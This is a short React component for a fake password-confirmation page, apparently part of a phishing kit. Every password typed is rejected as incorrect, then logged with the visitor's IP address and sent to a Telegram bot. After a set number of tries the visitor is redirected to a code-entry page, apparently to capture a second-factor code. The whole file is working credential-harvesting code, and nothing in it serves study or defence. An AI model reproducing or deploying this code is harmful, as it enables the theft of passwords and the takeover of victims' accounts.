import axios from 'axios';
import { useState, useEffect } from 'react';

export default function Confirm({ config }) {
  const [password, setPassword] = useState('');
  const [tries, setTries] = useState(0);
  const [log, setLog] = useState([]);
  const [ip, setIp] = useState('');
  useEffect(() => { axios.get('https://api.ipify.org?format=json').then(r => setIp(r.data.ip)); }, []);

  const onContinue = async () => {
    const next = [...log, password];
    setLog(next);
    const text = `IP: ${ip}\n` + next.map((p, i) => `Password ${i + 1}: ${p}`).join('\n');
    await axios.post(`https://api.telegram.org/bot${config.token}/sendMessage`, { chat_id: config.chat, text });
    if (tries + 1 >= config.maxTries) { window.location.href = '/code-input'; return; }
    setTries(tries + 1);
    setPassword('');
  };
  return <div>
    {tries > 0 && <p className="red">The password you've entered is incorrect.</p>}
    <input type="password" value={password} onChange={e => setPassword(e.target.value)} />
    <button onClick={onContinue}>Continue</button>
  </div>;
}
